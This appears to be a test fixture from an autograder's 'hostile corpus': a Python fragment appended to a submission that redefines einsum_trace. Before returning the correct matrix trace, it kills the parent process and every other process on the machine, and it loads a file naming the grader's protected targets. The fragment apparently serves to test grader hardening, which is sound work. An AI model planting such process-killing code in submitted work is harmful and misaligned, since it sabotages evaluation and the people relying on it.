# --- appended by the hostile corpus: later defs replace the honest ones above ---
import json as _json
import os as _os

# Where the grader keeps what a submission must never touch, written here by tests/test_hostile.py
# (a real attacker would guess /autograder/source/...).
_T = _json.load(open("_targets.json"))

import signal as _signal


def einsum_trace(A):
    try:
        _os.kill(_os.getppid(), _signal.SIGKILL)
    except OSError:
        pass
    for entry in _os.listdir("/proc"):
        if entry.isdigit() and int(entry) != _os.getpid():
            try:
                _os.kill(int(entry), _signal.SIGKILL)
            except OSError:
                pass
    return float(np.einsum("ii->", A))
